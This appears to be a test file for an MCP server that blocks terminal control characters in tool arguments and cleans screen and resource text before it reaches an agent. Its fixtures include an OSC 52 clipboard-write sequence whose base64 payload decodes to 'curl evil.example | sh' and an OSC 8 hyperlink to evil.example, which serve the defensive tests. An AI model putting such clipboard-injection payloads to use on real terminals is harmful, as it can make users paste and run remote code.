import { Client, InMemoryTransport } from '@modelcontextprotocol/client';
import { afterEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { DataSource } from '../../fixtures/data-source.js';
import {
  ALLOW_CONTROL_KEYWORD,
  controlCharacterIssues,
  terminalControlIssue,
} from '../../src/registry/control-characters.js';
import { createMcpServer, type McpServerHandle } from '../../src/server/index.js';
import { Session } from '../../src/session/session.js';
import type { ActionSpec, ViewNode } from '../../src/walker/types.js';
import { WIDGETS } from '../helpers/widgets-surface.js';

const ESC = '\u001B';
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`;
const OSC8 = `${ESC}]8;;https://evil.example\u001B\\click${ESC}]8;;${ESC}\\`;
const CSI = `${ESC}[2J${ESC}[31mred`;

const handles: McpServerHandle[] = [];
const clients: Client[] = [];
afterEach(async () => {
  for (const client of clients.splice(0)) await client.close();
  for (const handle of handles.splice(0)) await handle.close();
});

/** A real server with one session whose widget `notes` offers the actions, and a real SDK client. */
async function connect(actions: ActionSpec[], screen?: string) {
  const ran: Array<{ action: string; args: unknown }> = [];
  const node: ViewNode = {
    type: 'notes',
    id: 'notes',
    attrs: {},
    children: [],
    provider: {
      mcpTools: () =>
        actions.map((a) => ({
          ...a,
          run: (args: unknown) => {
            ran.push({ action: a.name, args });
            return 'ok';
          },
        })),
    },
  };
  const source = new DataSource([node]);
  source.screenText = screen;
  return { client: await connectSource(source), ran };
}

/** A real server serving `source` as session "app" (dotted names), and a real SDK client on it. */
async function connectSource(source: DataSource): Promise<Client> {
  const server = createMcpServer({ ...WIDGETS, logger: { warn: () => {} }, nameStyle: 'dotted' });
  handles.push(server);
  server.attach(new Session({ id: 'app', source }));
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
  await server.connect(serverSide);
  const client = new Client({ name: 'test-client', version: '1.0.0' });
  await client.connect(clientSide);
  clients.push(client);
  return client;
}

const add: ActionSpec = {
  name: 'add',
  inputSchema: {
    type: 'object',
    properties: {
      title: { type: 'string' },
      items: { type: 'array', items: { type: 'object', properties: { text: { type: 'string' } } } },
    },
  },
  run: () => 'unused',
};
const send: ActionSpec = {
  name: 'send',
  inputSchema: {
    type: 'object',
    properties: { label: { type: 'string' }, bytes: { type: 'string', [ALLOW_CONTROL_KEYWORD]: true } },
  },
  run: () => 'unused',
};
const sendZod: ActionSpec = {
  name: 'send_zod',
  inputSchema: z.object({ label: z.string(), bytes: z.string().meta({ [ALLOW_CONTROL_KEYWORD]: true }) }),
  run: () => 'unused',
};

type Content = Array<{ type: string; text?: string }>;
const firstText = (result: Record<string, unknown>) => (result.content as Content)[0]?.text ?? '';

describe('control characters in string arguments (#15)', () => {
  it.each([
    ['OSC 52 (clipboard write)', OSC52],
    ['OSC 8 (hyperlink)', OSC8],
    ['CSI (erase, colour)', CSI],
  ])(
    'refuses %s text in an argument over a real MCP client, naming the path; the handler never runs',
    async (_name, text) => {
      const { client, ran } = await connect([add]);
      const result = await client.callTool({
        name: 'app.notes.add',
        arguments: { title: 'ok', items: [{ text: 'a' }, { text: 'b' }, { text: `buy ${text} milk` }] },
      });
      expect(result.isError).toBe(true);
      const message = firstText(result);
      expect(message).toMatch(
        /^ink-mcp: invalid arguments for "app\.notes\.add": items\[2\]\.text: must not contain terminal control characters \(found U\+001B, ESC, at index 4\)/,
      );
      expect(ran).toEqual([]);
    },
  );

  it('refuses DEL, C1 controls and other C0 controls, allows TAB, LF and CR', () => {
    for (const ch of [
      '\u0000',
      '\u0007',
      '\u0008',
      '\u000B',
      '\u000C',
      '\u007F',
      '\u0085',
      '\u009B',
      '\u009D',
    ]) {
      expect(terminalControlIssue(`a${ch}b`), JSON.stringify(ch)).toContain(
        'must not contain terminal control characters',
      );
    }
    expect(terminalControlIssue('line one\r\n\tline two')).toBeUndefined();
    expect(terminalControlIssue('naïve 日本語 👍')).toBeUndefined();
  });

  it('checks every string at any depth, property names included, and arguments nested deep without overflowing', () => {
    let deep: unknown = `x${ESC}`;
    for (let i = 0; i < 20_000; i++) deep = [deep];
    const issues = controlCharacterIssues({ a: { [`k${ESC}`]: 'v' }, deep }, { type: 'object' });
    expect(issues.map((i) => i.path.slice(0, 2))).toEqual([
      ['a', `k${ESC}`],
      ['deep', 0],
    ]);
    expect(issues[0]?.message).toMatch(/^has a property name that must not contain/);
  });

  it('lets a field opted out with x-ink-mcp-allow-control through, and only that field (JSON Schema and zod)', async () => {
    const { client, ran } = await connect([send, sendZod]);
    for (const name of ['app.notes.send', 'app.notes.send_zod']) {
      const ok = await client.callTool({ name, arguments: { label: 'paste', bytes: OSC52 } });
      expect(ok.isError, firstText(ok)).toBeFalsy();
      const refused = await client.callTool({ name, arguments: { label: CSI, bytes: 'plain' } });
      expect(refused.isError).toBe(true);
      expect(firstText(refused)).toContain('label: must not contain terminal control characters');
    }
    expect(ran.map((r) => r.args)).toEqual([
      { label: 'paste', bytes: OSC52 },
      { label: 'paste', bytes: OSC52 },
    ]);
  });

  it('follows $ref, anyOf and additionalProperties to an opt-out', () => {
    const schema = {
      type: 'object',
      $defs: { raw: { type: 'string', [ALLOW_CONTROL_KEYWORD]: true } },
      properties: { a: { $ref: '#/$defs/raw' }, b: { anyOf: [{ type: 'number' }, { $ref: '#/$defs/raw' }] } },
      additionalProperties: { type: 'string' },
    };
    expect(controlCharacterIssues({ a: OSC52, b: OSC8 }, schema)).toEqual([]);
    expect(controlCharacterIssues({ c: CSI }, schema).map((i) => i.path)).toEqual([['c']]);
  });
});

describe('resources reach the agent clean', () => {
  it('cleans every string and key of ink://<s>/tree, and redacts a secret key hidden by invisible characters', async () => {
    const node: ViewNode = {
      type: 'Note\u200B',
      id: 'n',
      attrs: { 'ti\u200Btle': `buy${ESC}]52;c;aGk=\u0007 \u202Emilk`, 'pass\u200Bword': 'hunter2' },
      children: [],
    };
    const client = await connectSource(new DataSource([node]));
    const read = await client.readResource({ uri: 'ink://app/tree' });
    const text = (read.contents[0] as { text: string }).text;
    expect(JSON.parse(text)).toEqual([
      {
        type: 'Note',
        id: 'n',
        attrs: { title: 'buy]52;c;aGk= milk', password: '[redacted]' },
        tools: [],
        children: [],
      },
    ]);
  });
});

describe('screens reach the agent clean', () => {
  const dirty = `${ESC}[2J${ESC}]0;title\u0007Todo\u200B list  \r\n${ESC}[1m[x]${ESC}[0m milk\u202E\u{E0041}\u0085ok`;

  it('cleans the screen in a call answer and in ink://<s>/screen, keeping line breaks', async () => {
    const { client } = await connect([add], dirty);
    const result = await client.callTool({ name: 'app.notes.add', arguments: {} });
    const texts = (result.content as Content).map((c) => c.text ?? '');
    expect(texts).toContain('Screen after the call:\nTodo list\n[x] milk ok');
    const read = await client.readResource({ uri: 'ink://app/screen' });
    expect(read.contents[0]).toMatchObject({ text: 'Todo list\n[x] milk ok' });
  });
});
